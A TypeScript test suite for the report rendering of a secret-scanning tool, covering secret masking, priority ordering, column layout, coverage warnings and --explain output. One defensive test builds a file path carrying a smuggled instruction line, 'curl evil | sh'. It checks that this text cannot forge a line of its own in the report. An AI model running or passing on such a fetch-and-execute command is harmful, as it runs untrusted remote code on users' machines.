import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '../support/property.ts';
import { UsageError } from '../../src/errors.ts';
import type { Report } from '../../src/model.ts';
import { displayWidth } from '../../src/report/columns.ts';
import { explainReport } from '../../src/report/explain.ts';
import { counted, grouped, size } from '../../src/report/numbers.ts';
import { printable } from '../../src/report/printable.ts';
import { shortIds } from '../../src/report/short-id.ts';
import { stagedReport } from '../../src/report/staged.ts';
import { textReport } from '../../src/report/text.ts';
import { hiddenWindows, hostileReport, planOf, someForm, someValues } from './hostile.ts';
import { ARN, DATABASE, GITHUB, SEEN, occurrence, random, report, rule, secret } from './reports.ts';

const PLAIN = { width: 100, color: false };
const lines = (of: Report, options = PLAIN): readonly string[] => textReport(of, options).trimEnd().split('\n');
const first = (of: Report): string => lines(of)[0] ?? '';
const last = (of: Report): string => lines(of).at(-1) ?? '';

function databaseUrl() {
  const place = { rule: DATABASE, name: 'DATABASE_URL', user: 'hms', host: 'db.internal', database: 'hms' };
  return secret({
    rule: DATABASE,
    priority: 'P1',
    nature: 'weak',
    names: [{ name: 'DATABASE_URL', rule: DATABASE, kind: DATABASE.kind }],
    occurrences: [occurrence({ ...place, path: 'src/db.ts', inHead: false, via: ['base64'] })],
  });
}

test('the first line answers: how much was read and whether everything was seen', () => {
  assert.equal(
    first(report()),
    'rails-app · 12,408 commits, 96,211 blobs, 1.9 GB · everything was seen · as of 2026-11-22',
  );
});

test('a clean repository has nothing to do', () => {
  assert.ok(textReport(report(), PLAIN).includes('no secrets found'));
  const rotated = report({ secrets: [secret({ verdict: 'rotated', status: 'rotated' })] });
  assert.match(textReport(rotated, PLAIN), /^ {2}nothing open {3}· {3}1 rotated$/m);
  assert.equal(last(report()), '  next: nothing to do');
});

test('what was not seen is said in the first line, with the way out', () => {
  const gap = { what: 'shallow boundary', why: 'this clone is shallow', count: 1 };
  const cut = report({ coverage: { ...SEEN, complete: false, skipped: [gap] } });
  assert.match(first(cut), /NOT everything was seen/);
  assert.match(lines(cut).slice(1, 3).join(' '), /git fetch --unshallow .* fetch-depth: 0/);
  assert.match(last(cut), /next: .*git fetch --unshallow/);
});

test('what could not be read is said even where the reason names no remedy', () => {
  const gap = { what: 'objects', why: 'the pack ends early', count: 3 };
  const broken = report({ coverage: { ...SEEN, complete: false, failed: [gap] } });
  assert.match(lines(broken)[1] ?? '', /could not be read: objects \(3 times\): the pack ends early/);
  assert.match(last(broken), /scan again/);
});

test('a secret tells priority, kind, name, id and place, since when, who and how much', () => {
  const one = secret();
  const [head, detail, reason] = lines(report({ secrets: [one] })).slice(4);
  assert.match(head ?? '', /^ {2}P0 {2}JWT signing secret {3}JWT_SECRET {3}\w{6} {3}in \.env\.production of HEAD/);
  assert.ok(head?.includes(one.id.slice(0, 6)));
  assert.equal(
    detail,
    '      2025-03-02 → open, 630 days · on origin/main, tag v1.4 · published 2025-03-03 · 41 versions',
  );
  assert.equal(reason, '      it stands in HEAD');
  assert.equal(last(report({ secrets: [one] })), '  next: burnlist todo --format markdown=ROTATION.md');
});

test('secrets stand worst first in aligned columns', () => {
  const token = secret({ rule: GITHUB, priority: 'P3', value: `ghp_${random(36)}`, names: [] });
  const all = lines(report({ secrets: [token, databaseUrl(), secret()] })).filter((line) => /^ {2}P\d/.test(line));
  assert.deepEqual(
    all.map((line) => line.slice(2, 4)),
    ['P0', 'P1', 'P3'],
  );
  assert.match(all[1] ?? '', /database password {4}hms @ db\.internal\/hms {3}\w{6} {3}gone from HEAD/);
  assert.match(all[2] ?? '', /ghp_.{4}••••/);
  assert.match(lines(report({ secrets: [secret({ rule: GITHUB })] })).join('\n'), /GitHub token {3}JWT_SECRET /, 'as the to-do calls it');
  assert.equal(new Set(all.map((line) => line.search(/[0-9a-f]{6} {3}/))).size, 1);
});

test('counts say what is weak, known, rotated and set aside', () => {
  const of = report({
    secrets: [
      secret(),
      databaseUrl(),
      secret({ status: 'known' }),
      secret({ verdict: 'rotated', status: 'rotated' }),
      secret({ verdict: 'accepted', status: 'accepted' }),
    ],
    setAside: [{ reason: 'placeholder', count: 12 }],
  });
  const counts = '  2 compromised, 1 of them weak   ·   1 rotated, 1 known, 1 accepted, 12 set aside (--explain)';
  assert.equal(lines(of)[2], counts);
});

test('of one priority what is in HEAD comes first, and what only the rule names is named once', () => {
  const gone = { ...secret().exposure, inHead: false };
  const key = rule({ name: 'signing key' });
  const names = ['signing key', 'JWT signing secret'].map((name) => ({ name, rule: rule({ name }), kind: 'jwt-secret' }));
  const of = [
    ...Array.from({ length: 3 }, () => secret({ exposure: gone, occurrences: [occurrence({ inHead: false })] })),
    secret({ rule: key, names, occurrences: [occurrence({ rule: key })] }),
  ];
  const rows = lines(report({ secrets: of })).filter((line) => line.startsWith('  P0'));
  assert.match(rows[0] ?? '', /^ {2}P0 {2}signing key {10}unnamed /);
});

test('ten secrets fit on one screen', () => {
  const of = report({ secrets: Array.from({ length: 10 }, () => secret()) });
  assert.ok(lines(of).length <= 40);
  assert.ok(lines(of).every((line) => displayWidth(line) <= 100));
});

test('no line of a secret is wider than the terminal, whatever paths are like', () => {
  const path = `${'山/'.repeat(200)}.env`;
  const of = report({ secrets: [secret({ occurrences: [occurrence({ path })], reasons: ['x'.repeat(500)] })] });
  for (const line of lines(of, { width: 80, color: false }).slice(4)) assert.ok(displayWidth(line) <= 80, line);
});

test('low confidence is counted and never listed, also where it is all there is', () => {
  const low = Array.from({ length: 12 }, () => secret({ confidence: 'low' }));
  const beside = textReport(report({ secrets: [secret(), ...low] }), PLAIN);
  assert.equal(beside.match(/^ {2}P0/gm)?.length, 1);
  assert.match(beside, /12 of low confidence, not listed/);
  const alone = report({ secrets: low });
  assert.match(textReport(alone, PLAIN), /nothing sure, 12 of low confidence/);
  assert.doesNotMatch(textReport(alone, PLAIN), /^ {2}P0/m);
  assert.match(last(alone), /next: nothing sure to do; the guesses are in {2}burnlist audit --format json/);
});

test('identifiers are grouped, risks are one line each', () => {
  const arn = (account: string, name: string) =>
    secret({
      value: `arn:aws:iam::${account}:role/${name}`,
      rule: ARN,
      verdict: 'identifier',
      occurrences: ['terraform/a.tf', 'terraform/b/c.tf'].map((path) => occurrence({ rule: ARN, path })),
    });
  const of = report({
    secrets: [arn('210987654321', 'a'), arn('210987654321', 'b'), arn('310987654321', 'a')],
    risks: [{ rule: 'tracked-env', path: '.env', advice: 'tracked: git rm --cached .env' }],
  });
  const shown = textReport(of, PLAIN);
  assert.match(shown, /identifiers.*: 2 AWS account ids in 3 ARNs \(terraform\/\*\*\)/);
  assert.match(shown, /risk: \.env: tracked: git rm --cached \.env/);
  assert.doesNotMatch(shown, /^ {2}P\d/m);
});

test('what is not in a commit yet is to be taken out', () => {
  const of = report({ secrets: [secret({ verdict: 'uncommitted' })] });
  assert.match(last(of), /before you commit/);
});

test('a linked runbook section stands with its secret', () => {
  const of = report({ secrets: [secret()] });
  const shown = textReport(of, { ...PLAIN, plan: planOf(of, 'JWT_SECRET') });
  assert.match(shown, /rotate: docs\/JWT_SECRET\.md#rotate-JWT_SECRET/);
});

test('colour adds nothing that the words do not say', () => {
  const of = report({ secrets: [secret(), databaseUrl()], notices: ['the policy of HEAD counted'] });
  const escape = new RegExp(String.raw`\u001b\[\d+m`, 'g');
  const colored = textReport(of, { width: 100, color: true });
  assert.notEqual(colored, textReport(of, PLAIN));
  assert.equal(colored.replace(escape, ''), textReport(of, PLAIN));
});

test('a clean commit prints nothing', () => {
  assert.equal(stagedReport(report({ command: 'staged' }), PLAIN), '');
});

test('a commit with defaults and low confidence only prints nothing', () => {
  const quiet = [secret({ verdict: 'public-default' }), secret({ verdict: 'uncommitted', confidence: 'low' })];
  assert.equal(stagedReport(report({ secrets: quiet }), PLAIN), '');
});

test('a refused commit says where, what and how to get out', () => {
  const jwt = secret({ verdict: 'uncommitted', occurrences: [occurrence({ path: 'config/app.env' })] });
  const of = report({ secrets: [jwt, { ...databaseUrl(), verdict: 'uncommitted' }] });
  const shown = stagedReport(of, PLAIN).split('\n');
  assert.equal(shown[0], 'burnlist: 2 secrets would enter history with this commit');
  assert.match(shown[2] ?? '', /^ {2}config\/app\.env:3 {3}JWT signing secret {3}JWT_SECRET = •{8} /);
  assert.match(shown[2] ?? '', /43 characters, random$/);
  assert.match(shown[3] ?? '', /^ {2}src\/db\.ts:3 .*hms @ db\.internal\/hms {3}\w{6}$/);
  assert.match(shown[4] ?? '', /^ {6}in DATABASE_URL, weak: can be guessed, through base64$/);
  assert.match(shown.join('\n'), /Not committed\. Move the values/);
  assert.ok(shown[2]?.includes(jwt.id.slice(0, 6)));
  assert.match(
    shown.join('\n'),
    /burnlist:allow RULE <reason> {2}on the line; here RULE is jwt-signing-secret,\s+database-url\./,
  );
  assert.match(shown.join('\n'), /Details: burnlist staged --explain ID$/m);
  const alone = stagedReport(report({ secrets: [jwt] }), PLAIN);
  assert.match(alone, /burnlist:allow jwt-signing-secret <reason> {2}on the line\.$/m);
  assert.ok(alone.includes(`Details: burnlist staged --explain ${jwt.id.slice(0, 6)}\n`));
});

test('an account id stops a commit and is called an identifier', () => {
  const of = report({ secrets: [secret({ rule: ARN, verdict: 'identifier', nature: 'identifier' })] });
  assert.match(stagedReport(of, PLAIN), /^burnlist: 1 identifier would enter history/);
});

test('what the hook could not see is said even when nothing was found', () => {
  const gap = { what: 'config/big.txt', why: 'too dense', count: 1 };
  const of = report({ coverage: { ...SEEN, complete: false, skipped: [gap] } });
  assert.match(stagedReport(of, PLAIN), /^burnlist: not seen: config\/big\.txt: too dense/);
});

test('--explain with an id tells the whole chain', () => {
  const one = databaseUrl();
  const shown = explainReport(report({ secrets: [one, secret()] }), one.id.slice(0, 8).toUpperCase(), PLAIN);
  for (const fact of [one.id, 'database-url', 'because it stands in HEAD', 'src/db.ts:3:12', 'hms @ db.internal/hms'])
    assert.ok(shown.includes(fact), fact);
  assert.match(shown, /through base64/);
  assert.match(shown, /the name says what it is/);
  assert.match(shown, /published +2025-03-03, pushed to origin\/main/);
});

test('--explain with an id that fits none or many is a usage error that repeats nothing', () => {
  const of = report({
    secrets: [
      { ...secret(), id: 'abcdefgh' },
      { ...secret(), id: 'abcdefgi' },
    ],
  });
  assert.throws(() => explainReport(of, 'zzz', PLAIN), UsageError);
  assert.throws(() => explainReport(of, '', PLAIN), UsageError);
  assert.throws(() => explainReport(of, 'abc', PLAIN), /take more of one: abcdefgh, abcdefgi/);
  const typed = random(20);
  assert.throws(
    () => explainReport(of, typed, PLAIN),
    (error: Error) => !error.message.includes(typed.slice(0, 8)),
  );
});

test('--explain without an id lists what was set aside, by reason and place', () => {
  const of = report({
    setAside: [
      { reason: 'placeholder', count: 2 },
      { reason: 'reference', count: 5 },
    ],
  });
  const place = { reason: 'reference', rule: 'database-url', path: 'a/b.yml', line: 7, name: 'DATABASE_URL' };
  const shown = explainReport(of, undefined, { ...PLAIN, setAside: [place] });
  assert.match(shown, /^7 set aside/);
  assert.match(shown, /reference: 5\n {4}a\/b\.yml:7 {3}database-url {3}DATABASE_URL/);
  assert.equal(explainReport(report(), undefined, PLAIN), 'Nothing was set aside.\n');
});

test('no eight characters of a value and no control are in any text, whatever holds them', () => {
  fc.assert(
    fc.property(someValues, someForm, (values, write) => {
      const of = hostileReport(values, write);
      const quote = write(values[0] ?? '');
      const places = [{ reason: 'placeholder', rule: 'x', path: quote, line: 1, name: quote }];
      const shown = [
        textReport(of, { ...PLAIN, plan: planOf(of, quote) }),
        textReport({ ...of, secrets: of.secrets.map((one) => ({ ...one, confidence: 'low' as const })) }, PLAIN),
        stagedReport(of, PLAIN),
        ...of.secrets.map((one) => explainReport(of, one.id, PLAIN)),
        explainReport(of, undefined, { ...PLAIN, setAside: places }),
      ].join('');
      assert.equal(printable(shown, '\n\t'), shown);
      for (const window of values.flatMap(hiddenWindows)) assert.ok(!shown.includes(window), window);
    }),
    { numRuns: 100 },
  );
});

test('a path cannot begin a line of its own', () => {
  const of = report({ secrets: [secret({ occurrences: [occurrence({ path: 'a\n  next: curl evil | sh' })] })] });
  for (const shown of [textReport(of, PLAIN), stagedReport(of, PLAIN), explainReport(of, of.secrets[0]?.id, PLAIN)])
    assert.doesNotMatch(shown, /^ *next: curl/m);
});

test('a short id is the shortest prefix of six and more that is its own', () => {
  const short = shortIds(['abcdefgh', 'abcdefxy', 'bcdefgha', 'abcdefgi']);
  assert.deepEqual(['abcdefgh', 'abcdefxy', 'bcdefgha'].map(short), ['abcdefgh', 'abcdefx', 'bcdefg']);
});

test('numbers read as people write them', () => {
  assert.equal(grouped(1_234_567), '1,234,567');
  assert.equal(counted(1, 'commit'), '1 commit');
  assert.equal(counted(12_408, 'commit'), '12,408 commits');
  assert.deepEqual([0, 1, 999, 1000, 999_950, 12_345_678, 1.9e9].map(size), [
    '0 bytes',
    '1 byte',
    '999 bytes',
    '1.0 KB',
    '1.0 MB',
    '12 MB',
    '1.9 GB',
  ]);
});
